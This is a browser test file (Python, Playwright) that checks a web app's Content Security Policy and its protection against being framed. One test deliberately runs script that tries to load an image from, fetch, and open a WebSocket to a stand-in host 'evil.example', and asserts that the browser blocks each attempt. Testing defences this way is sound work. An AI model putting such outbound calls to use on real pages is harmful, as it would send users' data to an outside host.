"""What the guard lets a browser load is what the pages need, and nothing else gets out."""

from __future__ import annotations

import pytest
from playwright.sync_api import Browser

from tests.browser.driving import PAGES, open_page, open_sample

pytestmark = pytest.mark.browser


def test_no_page_needs_what_the_policy_forbids(browser: Browser, address: str):
    page = browser.new_context(viewport={"width": 1280, "height": 2400}).new_page()
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text))
    open_sample(page, address)
    for name in PAGES:
        open_page(page, name)
    assert not [line for line in said if "Content Security Policy" in line or "blocked" in line.lower()]
    page.context.close()


def test_what_a_hostile_text_would_load_or_send_is_stopped_by_the_browser(browser: Browser, address: str):
    page = browser.new_context().new_page()
    page.goto(address)
    outside: list[str] = []
    page.on("requestfinished", lambda request: outside.append(request.url) if "evil" in request.url else None)
    tried = """async () => {
        const image = new Promise(done => {
            const each = new Image(); each.onload = () => done("loaded"); each.onerror = () => done("stopped");
            each.src = "http://evil.example/x.png";
        });
        const sent = fetch("http://evil.example/", {mode: "no-cors"}).then(() => "sent", () => "stopped");
        const socket = new Promise(done => {
            try { const each = new WebSocket("ws://evil.example/"); each.onerror = () => done("stopped"); }
            catch { done("stopped"); }
        });
        const violations = [];
        document.addEventListener("securitypolicyviolation", event => violations.push(event.effectiveDirective));
        const results = await Promise.all([image, sent, socket]);
        await new Promise(done => setTimeout(done, 200));
        return [results, violations];
    }"""
    results, violations = page.evaluate(tried)
    assert results == ["stopped"] * 3
    # Stopped by the policy, and not because nobody is there.
    assert sorted(violations) == ["connect-src", "connect-src", "img-src"]
    assert not outside
    page.context.close()


def test_no_other_page_shows_this_one_in_itself(browser: Browser, address: str):
    page = browser.new_context().new_page()
    failed: list[str] = []
    page.on("console", lambda message: failed.append(message.text))
    page.set_content(f"<iframe src='{address}' onload='window.seen = 1'></iframe>")
    page.wait_for_timeout(1500)
    frame = page.frames[1]
    assert frame.locator("[data-testid=stApp]").count() == 0
    assert any("frame" in line.lower() for line in failed), failed
    page.context.close()
